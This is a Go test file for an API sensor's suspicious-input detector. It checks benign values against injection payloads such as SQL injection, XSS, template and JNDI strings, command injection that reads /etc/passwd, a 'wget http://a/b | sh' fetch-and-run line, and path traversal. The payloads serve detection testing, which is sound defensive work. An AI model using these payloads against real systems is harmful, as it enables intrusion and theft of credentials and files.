package crs

import (
	"testing"

	"github.com/apisensor/sensor/decoders"
)

func TestSuspiciousValue(t *testing.T) {
	tests := []struct {
		v       string
		lenient bool
		want    bool
	}{
		// benign API values
		{"alice", false, false},
		{"alice@example.com", false, false},
		{"2026-11-27T12:00:00Z", false, false},
		{"coffee beans", false, false},
		{"-price", false, false},
		{"Leave at the door, please.", false, false},
		{"O'Neil", false, false},
		{"https://example.com/a?b=c&d=e", false, false},
		{"3.14", false, false},
		{"select your plan", false, false},
		{"Tom & Jerry", false, false},
		{"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", true, false},
		{"a | b", true, false},
		{"order history", false, false},
		// SQL
		{"1' OR '1'='1", false, true},
		{"admin'--", false, true},
		{"x\" and 1=1", false, true},
		{"1 UNION SELECT password FROM users", false, true},
		{"1;select sleep(5)", false, true},
		{"1 AND BENCHMARK(5000000,MD5(1))", false, true},
		{"1' waitfor delay '0:0:5", false, true},
		{"it's order", false, true}, // quote + keyword: a false positive, by design
		// XSS, templates, expressions
		{"<script>alert(1)</script>", false, true},
		{"<img src=x onerror=alert(1)>", false, true},
		{"javascript:alert(1)", false, true},
		{"{{7*7}}", false, true},
		{"${jndi:ldap://x/a}", false, true},
		{"#{7*7}", false, true},
		{"{% debug %}", false, true},
		// commands
		{"x; cat /etc/passwd", false, true},
		{"x;id", false, true},
		{"x|id", false, true},
		{"x || ping -c 1 10.0.0.1", true, true},
		{"x && whoami", true, true},
		{"`id`", false, true},
		{"$(id)", false, true},
		{"a\x00b", false, true},
		// files
		{"../../etc/passwd", false, true},
		{"..\\..\\windows\\win.ini", false, true},
		{"/etc/shadow", false, true},
		{"/proc/self/environ", false, true},
		{"php://filter/resource=index", false, true},
		{"file:///etc/hosts", false, true},
		// Java
		{"java.lang.Runtime", false, true},
	}
	for _, tt := range tests {
		if got := SuspiciousValue(tt.v, tt.lenient); got != tt.want {
			t.Errorf("SuspiciousValue(%q, %v) = %v, want %v", tt.v, tt.lenient, got, tt.want)
		}
	}
}

func TestSuspicious(t *testing.T) {
	tests := []struct {
		name string
		x    *decoders.Exchange
		want bool
	}{
		{"benign get", httpExchange("GET", "/api/users/42?fields=name,email", "", ""), false},
		{"benign json", httpExchange("POST", "/api/orders", "application/json", `{"sku":"A-100","qty":2,"note":"ring twice"}`), false},
		{"benign grpc", grpcExchange("application/grpc", "1", "coffee mug"), false},
		{"sqli query", httpExchange("GET", "/api/search?q=1%27%20OR%20%271%27%3D%271", "", ""), true},
		{"xss json", httpExchange("POST", "/api/c", "application/json", `{"t":"<svg onload=alert(1)>"}`), true},
		{"rce protobuf", grpcExchange("application/grpc", "2.1", "x; wget http://a/b | sh"), true},
		{"dot segment", httpExchange("GET", "/static/../../etc/passwd", "", ""), true},
		{"encoded traversal", httpExchange("GET", "/static/..%2f..%2fetc%2fpasswd", "", ""), true},
		{"json key", httpExchange("POST", "/api/c", "application/json", `{"<script>":1}`), true},
		{"scanned header", httpExchange("GET", "/", "", "", decoders.Header{Name: "X-Api-Version", Value: "${jndi:ldap://a/b}"}), true},
		{"unscanned header", httpExchange("GET", "/", "", "", decoders.Header{Name: "Accept", Value: "text/html;q=0.9, <x>"}), false},
		{"user agent with semicolons", httpExchange("GET", "/", "", "", decoders.Header{Name: "X-Client", Value: "app/1.0 (iOS 17; iPhone)"}), false},
	}
	for _, tt := range tests {
		if got := Suspicious(tt.x, 8<<10); got != tt.want {
			t.Errorf("%s: Suspicious = %v, want %v", tt.name, got, tt.want)
		}
	}
}

var sink bool

func BenchmarkSuspicious(b *testing.B) {
	cases := []struct {
		name string
		x    *decoders.Exchange
	}{
		{"benign-get", httpExchange("GET", "/api/users/42?fields=name,email&page=2", "", "")},
		{"benign-json", httpExchange("POST", "/api/orders", "application/json",
			`{"customer":{"name":"Alice Smith","email":"alice@example.com"},"items":[{"sku":"A-100","qty":2},{"sku":"B-7","qty":1}],"note":"Leave at the door, please."}`)},
		{"benign-grpc", grpcExchange("application/grpc", "1", "coffee mug", "2", "10", "3.1", "en-US")},
		{"attack", httpExchange("GET", "/api/search?q=1%27%20OR%20%271%27%3D%271", "", "")},
	}
	for _, c := range cases {
		b.Run(c.name, func(b *testing.B) {
			n := 0
			for _, p := range c.x.Params {
				n += len(p.Value)
			}
			b.SetBytes(int64(n))
			b.ReportAllocs()
			for b.Loop() {
				sink = Suspicious(c.x, 8<<10)
			}
		})
	}
}
